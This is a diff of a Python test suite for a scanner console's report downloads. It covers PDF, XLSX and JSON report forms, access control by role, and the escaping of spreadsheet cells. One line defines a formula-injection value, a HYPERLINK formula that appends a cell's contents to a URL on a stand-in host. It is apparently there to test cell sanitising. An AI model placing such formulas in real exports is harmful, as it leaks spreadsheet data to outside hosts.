@@ -13,17 +13,23 @@ import pytest
 from consoles import COMMENTS, INSIDE, OUTSIDE_WORDS, Site
 from fakes import KEY, WORDS
 from html_pages import tables_of, words_of
+from reports import pdf_words
 from sqlalchemy import insert, select, update
 from vaults import audited
 
-from scanner.accounts import Perimeter, Viewer, roles
+from scanner.accounts import Perimeter
 from scanner.catalogue import default_catalogue
-from scanner.console import finding_rows as finding_rows_module
 from scanner.console import reports
-from scanner.console.downloads import csv_chunks, safe_cell, xlsx_chunks
-from scanner.console.finding_rows import HEADER, finding_rows
+from scanner.documents.html import html
 from scanner.keys import pseudonym
-from scanner.report.page import render as report_page
+from scanner.organisation import Organisation
+from scanner.outputs import ReportForm
+from scanner.report import writing
+from scanner.report.document import report_document
+from scanner.report.from_store import Wanted, dossier_of_store
+from scanner.review import finding_rows as finding_rows_module
+from scanner.review.finding_rows import HEADER, finding_rows
+from scanner.spreadsheets import Sheet, csv_chunks, safe_cell, xlsx_chunks
 from scanner.store.schema import findings, records, runs
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"x")'
@@ -99,7 +105,7 @@ def test_page_lists_runs_with_the_figures_of_the_store(site):
     assert (summary["rows_read"], summary["findings"]) == (9, 12)
     assert [row[:1] + row[2:] for row in runs_table] == [
         ["Traitement", "État", "Fiches lues", "Non analysées", "Constats nouveaux", "Disparus", "Télécharger"],
-        ["night", "terminée", "9", "0", "12", "0", "Rapport Chiffres (JSON)"],
+        ["night", "terminée", "9", "0", "12", "0", "Rapport PDF Annexe (XLSX) Chiffres (JSON)"],
     ]
     assert exports == [["Traitement", "Télécharger"], ["night", "CSV Excel (XLSX)"]]
 
@@ -107,12 +113,36 @@ def test_page_lists_runs_with_the_figures_of_the_store(site):
 def test_report_and_summary_are_those_of_the_run(own_site):
     run_id, summary = run_of(own_site)
     client = own_site.client("dpo.all")
+    dossier = dossier_of_store(own_site.store, Wanted("night", 1), Organisation())
     report = client.get(f"/console/reports/{run_id}/report.html")
-    assert report.text == report_page(summary, default_catalogue())
+    assert report.text == html(report_document(dossier, default_catalogue()))
     assert client.get(f"/console/reports/{run_id}/summary.json").json() == summary
     assert report.headers["content-disposition"] == f'attachment; filename="vigie-{run_id}-report.html"'
     assert report.headers["content-security-policy"] == "default-src 'none'; style-src 'unsafe-inline'; sandbox"
     assert downloads(own_site) == [{"run": run_id}, {"run": run_id}]
+
+
+def test_the_report_in_its_other_forms(own_site):
+    run_id, summary = run_of(own_site)
+    client = own_site.client("auditor.all")
+    answers = {form: client.get(f"/console/reports/{run_id}/report.{form}") for form in ("pdf", "xlsx", "json")}
+    assert {form: answer.headers["content-disposition"] for form, answer in answers.items()} == {
+        form: f'attachment; filename="vigie-{run_id}-report.{form}"' for form in answers
+    }
+    assert "Contrôle des zones de commentaires libres" in pdf_words(answers["pdf"].content)
+    sheets = openpyxl.load_workbook(io.BytesIO(answers["xlsx"].content))
+    header, *rows = sheets["Constats"].iter_rows(values_only=True)
+    assert (len(rows), {len(row[header.index("fiche")]) for row in rows}) == (summary["findings"], {16})
+    assert answers["json"].json()["summary"]["run"] == run_id
+    assert downloads(own_site) == [{"run": run_id}] * 3
+
+
+def test_pdf_is_not_offered_where_it_cannot_be_made(site, monkeypatch):
+    run_id, _ = run_of(site)
+    monkeypatch.setattr(writing, "find_spec", lambda name: None)
+    client = site.client("dpo.all")
+    assert client.get(f"/console/reports/{run_id}/report.pdf").status_code == 404
+    assert f"{run_id}/report.pdf" not in client.get_page("/console/reports")
 
 
 def test_who_may_not_see_records_gets_pseudonyms(own_site):
@@ -134,8 +164,8 @@ def test_limited_perimeter_gets_its_own_sites_and_no_report_of_all(site):
     client = site.client("dpo")
     page = client.get_page("/console/reports")
     assert [[row[0], row[-1]] for row in tables_of(page)[0]] == [["Traitement", "État"], ["night", "terminée"]]
-    for path in (f"/console/reports/{run_id}/report.html", f"/console/reports/{run_id}/summary.json"):
-        assert client.get(path).status_code == 404
+    for name in (*(form.file_name for form in ReportForm), "summary.json"):
+        assert client.get(f"/console/reports/{run_id}/{name}").status_code == 404
     content = client.get("/console/reports/findings.csv?job=night").content
     header, *rows = read_csv(content)
     assert header == list(HEADER)
@@ -152,12 +182,20 @@ def test_limited_perimeter_gets_its_own_sites_and_no_report_of_all(site):
 def test_reports_do_not_exist_for_other_roles(site, login):
     run_id, _ = run_of(site)
     client = site.client(login)
-    paths = ("", f"/{run_id}/report.html", f"/{run_id}/summary.json", "/findings.csv?job=night", "/findings.xlsx?job=night")
-    assert [client.get(f"/console/reports{path}").status_code for path in paths] == [404] * 5
+    of_run = (*(form.file_name for form in ReportForm), "summary.json")
+    paths = ("", *(f"/{run_id}/{name}" for name in of_run), "/findings.csv?job=night", "/findings.xlsx?job=night")
+    assert [client.get(f"/console/reports{path}").status_code for path in paths] == [404] * 8
 
 
 @pytest.mark.parametrize(
-    "path", ["/0123456789abcdef/report.html", "/0123456789abcdef/summary.json", "/findings.csv?job=other", "/findings.csv?job="]
+    "path",
+    [
+        "/0123456789abcdef/report.html",
+        "/0123456789abcdef/report.pdf",
+        "/0123456789abcdef/summary.json",
+        "/findings.csv?job=other",
+        "/findings.csv?job=",
+    ],
 )
 def test_what_does_not_exist_is_not_found(site, path):
     before = len(downloads(site))
@@ -196,12 +234,12 @@ def test_other_cells_stay_as_they_are(cell):
 
 def test_ids_stay_text_in_workbooks():
     ids = ["00123", "1E5", "03-04", "12345678901234567890"]
-    made = b"".join(xlsx_chunks(["fiche"], [[one] for one in ids], "constats"))
+    made = b"".join(xlsx_chunks([Sheet("constats", ["fiche"], [[one] for one in ids])]))
     assert read_xlsx(made) == [["fiche"], *([one] for one in ids)]
 
 
 def test_control_characters_do_not_break_a_workbook():
-    assert read_xlsx(b"".join(xlsx_chunks(["a"], [["x\x00y\x0bz"]], "t"))) == [["a"], ["x\ufffdy\ufffdz"]]
+    assert read_xlsx(b"".join(xlsx_chunks([Sheet("t", ["a"], [["x\x00y\x0bz"]])]))) == [["a"], ["x\ufffdy\ufffdz"]]
 
 
 def test_csv_is_sent_as_it_is_made():
@@ -226,12 +264,11 @@ def test_csv_of_many_rows_takes_the_memory_of_few():
 
 
 def test_rows_are_the_same_whatever_the_page(site, monkeypatch):
-    viewer = Viewer("a", "dpo", "D", roles()["dpo"], Perimeter.everything())
-    whole = list(finding_rows(site.store, viewer, "night", KEY))
+    whole = list(finding_rows(site.store, Perimeter.everything(), "night", str))
     assert len(whole) == 12
     for size in (1, 2, 5, 11, 12, 13):
         monkeypatch.setattr(finding_rows_module, "_PAGE", size)
-        assert list(finding_rows(site.store, viewer, "night", KEY)) == whole
+        assert list(finding_rows(site.store, Perimeter.everything(), "night", str)) == whole
 
 
 def test_workbooks_of_too_many_findings_are_not_offered(site, monkeypatch):
